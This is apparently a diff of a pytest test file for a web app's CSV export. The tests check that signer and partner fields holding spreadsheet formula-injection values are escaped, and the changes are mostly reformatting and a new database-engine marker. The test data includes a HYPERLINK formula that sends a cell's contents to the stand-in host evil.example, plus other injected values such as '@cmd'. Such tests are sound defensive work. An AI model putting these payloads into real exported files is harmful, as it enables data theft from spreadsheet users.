@@ -14,13 +14,16 @@ from widget_server.core.models import EXPORT_COLUMNS
 from widget_server.services import reports
 from widget_server.storage.store import open_store
 
+# Storage-facing behaviour: also run on PostgreSQL when the tests have one.
+pytestmark = pytest.mark.both_engines
+
 
 def read_rows(text: str, delimiter: str = ",") -> list[list[str]]:
     return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
 
 
 FORMULAS = [
-    "=HYPERLINK(\"https://evil.example/?d=\"&A2,\"Click\")",
+    '=HYPERLINK("https://evil.example/?d="&A2,"Click")',
     "=1+1",
     "+1+1",
     "-1+1",
@@ -85,19 +88,22 @@ def test_lines_are_independent_so_exports_can_stream() -> None:
     assert read_rows(first + second) == [["a", "'=b"], ["c", "d"]]
 
 
-def test_the_export_neutralises_every_column_a_signer_or_link_can_fill(settings, make_client, clock) -> None:  # type: ignore[no-untyped-def]
+def test_the_export_neutralises_every_column_a_signer_or_link_can_fill(settings, make_client, clock) -> None:
     """The real export (what `widget-server export` prints): signer fields, partner name and
     the partner page's campaign tags all pass through the same neutralisation."""
     make_pledge(settings)
     creds = make_partner(settings, name="=Evil Partner")
     client = make_client(settings)
     signer = Signer(client, clock, token=creds.token, query={"source": "=1+1", "utm_campaign": "@SUM(1)"})
-    assert signer.sign(
-        name="=HYPERLINK(\"https://evil.example\")",
-        email="+trick@example.org",
-        occupation="-2+3",
-        organisation="@cmd",
-    ).status_code == 200
+    assert (
+        signer.sign(
+            name='=HYPERLINK("https://evil.example")',
+            email="+trick@example.org",
+            occupation="-2+3",
+            organisation="@cmd",
+        ).status_code
+        == 200
+    )
     plain = Signer(client, clock, query={"source": "news, letter"})
     assert plain.sign(name='Zoë "Z" Smith, Jr.', email="zoe@example.org", occupation="Nurse").status_code == 200
 
@@ -111,7 +117,7 @@ def test_the_export_neutralises_every_column_a_signer_or_link_can_fill(settings,
     rows = list(header)
     hostile, honest = rows
     assert list(rows[0]) == list(EXPORT_COLUMNS)
-    assert hostile["name"] == "'=HYPERLINK(\"https://evil.example\")"
+    assert hostile["name"] == '\'=HYPERLINK("https://evil.example")'
     assert hostile["email"] == "'+trick@example.org"
     assert hostile["occupation"] == "'-2+3"
     assert hostile["organisation"] == "'@cmd"
